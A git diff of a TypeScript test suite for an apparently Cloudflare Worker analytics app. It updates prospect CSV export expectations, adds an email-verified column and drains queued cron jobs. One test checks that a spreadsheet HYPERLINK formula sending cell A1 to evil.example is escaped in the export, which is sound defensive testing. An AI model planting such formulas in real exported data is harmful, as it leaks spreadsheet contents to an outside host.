@@ -1,14 +1,23 @@
 import { createScheduledController } from "cloudflare:test";
 import { env } from "cloudflare:workers";
-import { describe, expect, it } from "vitest";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import worker from "../../worker/index";
 import { api, beaconBody, createSite, event, ORIGIN, sendBeacon, tableCounts, track, visitor } from "../support/api";
+import { captureQueue, drainQueue, type Queued } from "../support/jobs";
 
 const HOUR = 3_600_000;
 const DAY = 24 * HOUR;
 
+let queued: Queued[] = [];
+beforeEach(() => {
+  queued = captureQueue();
+});
+afterEach(() => vi.restoreAllMocks());
+
+/** The hourly cron at `at`, and every message its fan-out hands on, run to the end. */
 async function runCron(at: number): Promise<void> {
   await worker.scheduled(createScheduledController({ scheduledTime: at, cron: "0 * * * *" }), env);
+  await drainQueue(queued);
 }
 
 const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
@@ -47,6 +56,7 @@ describe("the first worked example, end to end", () => {
       {
         visitorId: "visitor-journey",
         email: null,
+        emailVerified: false,
         score: 50,
         class: "prospect",
         grade: null,
@@ -90,8 +100,8 @@ describe("the first worked example, end to end", () => {
     const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trimEnd().split("\r\n");
-    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source,stage,probability,outcome,reason,value");
-    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,,prospect,,,,$/);
+    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source,email_verified,stage,probability,outcome,reason,value");
+    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,,no,prospect,,,,$/);
     expect(lines).toHaveLength(3);
   });
 
@@ -113,8 +123,9 @@ describe("the first worked example, end to end", () => {
     expect(row?.score).toBeCloseTo(expected, 1);
     expect(row?.score).toBeLessThan(10);
     expect(row?.prospect_since).toBeNull();
-    const list = await env.DB.prepare("SELECT rows FROM prospect_lists WHERE site_id = 'acme'").first<{ rows: string }>();
-    expect(JSON.parse(list?.rows ?? "null")).toEqual([]);
+    expect((await tableCounts()).prospect_lists).toBe(1);
+    const lines = await env.DB.prepare("SELECT count(*) AS n FROM prospect_list_rows WHERE site_id = 'acme'").first<{ n: number }>();
+    expect(lines?.n).toBe(0);
   });
 
   it.each([
@@ -138,10 +149,10 @@ describe("the first worked example, end to end", () => {
     expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(withBom.slice(3)).toEqual(new Uint8Array(plain));
     const lines = new TextDecoder().decode(plain).trimEnd().split("\r\n");
-    const rows = lines.slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(8, 13));
+    const rows = lines.slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(8, 14));
     expect(rows).toEqual([
-      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), ""],
-      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email"],
+      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), "", "no"],
+      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email", "no"],
     ]);
   });
 
@@ -152,7 +163,7 @@ describe("the first worked example, end to end", () => {
     });
     await track("acme", "visitor-0001", event("pageview"));
     const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
-    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -10).join(",");
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -11).join(",");
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
